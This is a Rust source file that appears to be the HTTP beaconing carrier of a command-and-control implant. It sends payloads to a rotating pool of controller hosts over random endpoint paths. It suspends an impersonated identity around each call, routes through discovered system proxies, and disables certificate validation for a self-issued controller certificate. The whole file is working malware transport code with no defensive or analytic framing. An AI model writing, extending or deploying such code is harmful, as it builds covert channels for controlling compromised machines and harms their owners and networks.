//! Beaconing HTTP carrier.
//!
//! One request per send against the pool's active host. Failures are
//! charged to the active host, which rotates once its budget is exhausted;
//! the proxy cache is consulted once per rotation epoch. The impersonated
//! identity (if any) is suspended for the duration of the network call and
//! unconditionally restored before failure accounting.

use std::sync::Arc;

use reqwest::header::{HeaderName, HeaderValue};
use reqwest::{Client, Method, Proxy, StatusCode};
use tracing::{debug, warn};
use url::Url;

use crate::config::HttpConfig;
use crate::error::{Result, TransportError};
use crate::hosts::HostPool;
use crate::identity::{IdentityGuard, IdentityScope};
use crate::proxy::ProxyCache;
use rand::rngs::StdRng;
use rand::{RngCore, SeedableRng};

/// Open client session plus the discovered proxy it was built with.
struct Session {
    client: Client,
    discovered_proxy: Option<Url>,
}

/// HTTP(S) carrier over a rotating pool of controller hosts.
pub struct HttpCarrier {
    config: HttpConfig,
    method: Method,
    pool: HostPool,
    proxy: ProxyCache,
    session: Option<Session>,
    guard: Arc<dyn IdentityGuard>,
    rng: StdRng,
    connected: bool,
}

impl HttpCarrier {
    /// Build a carrier from config. The head of the pool becomes the
    /// initial active host.
    pub fn new(config: HttpConfig, guard: Arc<dyn IdentityGuard>) -> Result<Self> {
        if config.uris.is_empty() {
            return Err(TransportError::InvalidConfig {
                reason: "at least one endpoint path is required".to_string(),
            });
        }
        let method: Method = config.method.parse().map_err(|_| TransportError::InvalidConfig {
            reason: format!("invalid request method {:?}", config.method),
        })?;

        let mut pool = HostPool::new(config.rotation, config.max_retries);
        for host in &config.hosts {
            pool.add(host.address.clone(), host.port);
        }

        let mut carrier = HttpCarrier {
            config,
            method,
            pool,
            proxy: ProxyCache::new(),
            session: None,
            guard,
            rng: StdRng::from_entropy(),
            connected: false,
        };
        // Seat the initial selection on the head of the pool.
        carrier.pool.rotate(&mut carrier.proxy);
        Ok(carrier)
    }

    /// Whether the last attempt left the session reachable.
    pub fn connected(&self) -> bool {
        self.connected
    }

    pub(crate) fn set_connected(&mut self, connected: bool) {
        self.connected = connected;
    }

    /// False iff every configured host is dead.
    pub fn hosts_alive(&self) -> bool {
        self.pool.checkup()
    }

    /// Send one envelope to the active host.
    ///
    /// On success with `want_response`, returns the fully accumulated
    /// response body. Any failure is charged against the active host before
    /// returning, which may rotate the pool for the next attempt.
    pub async fn send(&mut self, payload: &[u8], want_response: bool) -> Result<Option<Vec<u8>>> {
        let scope = IdentityScope::enter(Arc::clone(&self.guard));
        let result = self.send_inner(payload, want_response).await;
        // Identity is restored before failure accounting on every path.
        drop(scope);

        if result.is_err() {
            self.pool.report_failure(&mut self.proxy);
        }
        result
    }

    async fn send_inner(&mut self, payload: &[u8], want_response: bool) -> Result<Option<Vec<u8>>> {
        let authority = match self.pool.active_entry() {
            Some(entry) => entry.authority(),
            None => {
                return Err(if self.pool.count() == 0 {
                    TransportError::NoHosts
                } else {
                    TransportError::HostsExhausted
                });
            }
        };

        // One endpoint path chosen per send, independent of host rotation.
        let path = {
            let idx = self.rng.next_u32() as usize % self.config.uris.len();
            self.config.uris[idx].clone()
        };
        let scheme = if self.config.secure { "https" } else { "http" };
        let url = Url::parse(&format!("{scheme}://{authority}{path}")).map_err(|e| {
            TransportError::InvalidConfig {
                reason: format!("endpoint url for {authority}{path}: {e}"),
            }
        })?;

        let discovered = if self.config.proxy.is_none() {
            self.proxy.resolve(&url)
        } else {
            None
        };
        let client = self.ensure_session(discovered)?;

        let mut request = client.request(self.method.clone(), url.clone());
        for (name, value) in &self.config.headers {
            match (
                HeaderName::from_bytes(name.as_bytes()),
                HeaderValue::from_str(value),
            ) {
                (Ok(name), Ok(value)) => request = request.header(name, value),
                _ => warn!(header = %name, "skipping malformed request header"),
            }
        }

        let response = request
            .body(payload.to_vec())
            .send()
            .await
            .map_err(|e| {
                if e.is_connect() {
                    self.connected = false;
                }
                warn!(url = %url, error = %e, "HTTP round trip failed");
                TransportError::RequestFailed {
                    url: url.to_string(),
                    reason: e.to_string(),
                }
            })?;

        // Anything but 200 means the controller did not recognize us, even
        // though a response arrived.
        if response.status() != StatusCode::OK {
            debug!(status = %response.status(), url = %url, "unexpected response status");
            return Err(TransportError::UnexpectedStatus {
                status: response.status().as_u16(),
                url: url.to_string(),
            });
        }

        if !want_response {
            return Ok(None);
        }

        // Accumulate the body chunk by chunk; a read error ends the loop
        // and whatever arrived so far is the response.
        let mut response = response;
        let mut body: Vec<u8> = Vec::new();
        loop {
            match response.chunk().await {
                Ok(Some(chunk)) => body.extend_from_slice(&chunk),
                Ok(None) => break,
                Err(e) => {
                    warn!(error = %e, received = body.len(), "response body read ended early");
                    break;
                }
            }
        }
        Ok(Some(body))
    }

    /// Open the client session lazily, rebuilding it when the discovered
    /// proxy changed since the session was built. A fixed proxy is applied
    /// once and never rebuilt.
    fn ensure_session(&mut self, discovered: Option<Url>) -> Result<Client> {
        let reusable = self
            .session
            .as_ref()
            .map(|s| s.discovered_proxy == discovered)
            .unwrap_or(false);

        if !reusable {
            let mut builder = Client::builder().user_agent(&self.config.user_agent);

            if self.config.secure {
                // The controller certificate is self-issued and will not
                // validate against public roots.
                builder = builder.danger_accept_invalid_certs(true);
            }

            if let Some(fixed) = &self.config.proxy {
                let mut proxy =
                    Proxy::all(fixed.url.as_str()).map_err(|e| TransportError::SessionOpen {
                        reason: format!("fixed proxy {:?}: {e}", fixed.url),
                    })?;
                if let Some(username) = &fixed.username {
                    proxy = proxy.basic_auth(username, fixed.password.as_deref().unwrap_or(""));
                }
                builder = builder.proxy(proxy);
            } else if let Some(url) = &discovered {
                let proxy =
                    Proxy::all(url.as_str()).map_err(|e| TransportError::SessionOpen {
                        reason: format!("discovered proxy {url}: {e}"),
                    })?;
                builder = builder.proxy(proxy);
            }

            let client = builder.build().map_err(|e| TransportError::SessionOpen {
                reason: e.to_string(),
            })?;
            debug!(proxy = ?discovered.as_ref().map(Url::as_str), "HTTP session opened");
            self.session = Some(Session {
                client,
                discovered_proxy: discovered,
            });
        }

        match &self.session {
            Some(session) => Ok(session.client.clone()),
            None => Err(TransportError::SessionOpen {
                reason: "session was not opened".to_string(),
            }),
        }
    }
}
